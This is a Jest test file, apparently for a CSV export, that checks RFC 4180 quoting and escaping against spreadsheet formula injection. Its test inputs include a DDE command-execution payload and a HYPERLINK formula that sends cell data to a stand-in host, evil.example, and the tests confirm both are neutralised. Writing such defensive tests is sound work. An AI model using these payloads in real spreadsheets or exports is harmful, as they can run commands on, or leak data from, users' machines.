import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { bodyOf } from './rows.js';

/** The one cell of a body with one row and one column, between the header's line and its own end. */
function cell(text: string): string {
  const body = bodyOf('CSV;fields=partnerRowId', [
    { partnerRowId: text, referenceHotelId: null, matchMethod: null, matchConfidence: null },
  ]);
  return body.slice('partnerRowId\r\n'.length, -'\r\n'.length);
}

const method = (matchMethod: string | null): string =>
  bodyOf('CSV', [{ partnerRowId: 'row_1', referenceHotelId: null, matchMethod, matchConfidence: null }])
    .split('\r\n')[1]
    ?.split(',')[2] ?? '';

describe('a cell', () => {
  it.each([
    ['row_1', 'row_1'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['two\r\nlines', '"two\r\nlines"'],
    [' padded', '" padded"'],
    ['padded ', '"padded "'],
    ["l'Hôtel", "l'Hôtel"],
    ['a;b', 'a;b'],
  ])('%j is written as %j (RFC 4180)', (text, written) => {
    expect(cell(text)).toBe(written);
  });

  it('is empty for null, and quoted for an empty text', () => {
    expect([method(null), method('')]).toEqual(['', '""']);
  });
});

describe('with csvFormulas raw', () => {
  it.each([
    ['=1+1', '=1+1'],
    ["'=1+1", "'=1+1"],
    ['@a,b', '"@a,b"'],
    ['\t-1', '"\t-1"'],
  ])('%j is written as %j', (text, written) => {
    const row = { partnerRowId: text, referenceHotelId: null, matchMethod: null, matchConfidence: null };
    expect(bodyOf('CSV;formulas=raw;fields=partnerRowId', [row])).toBe(`partnerRowId\r\n${written}\r\n`);
  });
});

describe('text that a spreadsheet would evaluate as a formula', () => {
  it.each([
    ['=1+1', `'=1+1`],
    ['=cmd|"/c calc"!A1', `"'=cmd|""/c calc""!A1"`],
    ['+49 30 123', `'+49 30 123`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\t=1+1', `'\t=1+1`],
    ['\tharmless', `'\tharmless`],
    ['\r=1+1', `"'\r=1+1"`],
    ['\n=1+1', `"'\n=1+1"`],
    ['\0=1+1', `'\0=1+1`],
    [' =1+1', `' =1+1`],
    ['\u00a0=1+1', `'\u00a0=1+1`],
    ['\ufeff=1+1', `'\ufeff=1+1`],
    ['\u200b=1+1', `'\u200b=1+1`],
    ['"=1+1', `"'""=1+1"`],
    [`'=1+1`, `''=1+1`],
    [`"' =1+1"`, `"'""' =1+1"""`],
    ['＝1+1', `'＝1+1`],
    ['＋1', `'＋1`],
    ['－1', `'－1`],
    ['＠A1', `'＠A1`],
    ['=HYPERLINK("http://evil.example/?"&A1,"Hotel")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Hotel"")"`],
  ])('%j gets an apostrophe: %j', (text, written) => {
    expect(cell(text)).toBe(written);
  });

  it.each([
    ['row_=1', 'row_=1'],
    ['a-b', 'a-b'],
    ['ref_01J', 'ref_01J'],
    ["'quoted'", "'quoted'"],
    ['1+1', '1+1'],
    ['東京', '東京'],
  ])('%j is not a formula and stays unchanged', (text, written) => {
    expect(cell(text)).toBe(written);
  });

  it('is not looked for in numbers', () => {
    const row = { partnerRowId: 'row_1', referenceHotelId: null, matchMethod: null, matchConfidence: 1e-7 };
    expect(bodyOf('CSV', [row])).toContain('row_1,,,1e-7\r\n');
  });

  it('never starts a cell, whatever the text', () => {
    const piece = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', "'", ',', 'a', '\ufeff', '＝');
    const text = fc.array(piece, { minLength: 1, maxLength: 8 }).map((pieces) => pieces.join(''));
    fc.assert(
      fc.property(text, (given) => {
        const written = cell(given);
        const read = written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written;
        expect(read).not.toMatch(/^[\s"\ufeff]*[=+\-@\t\r\n＝]/u);
        expect([given, `'${given}`]).toContain(read);
      }),
    );
  });
});
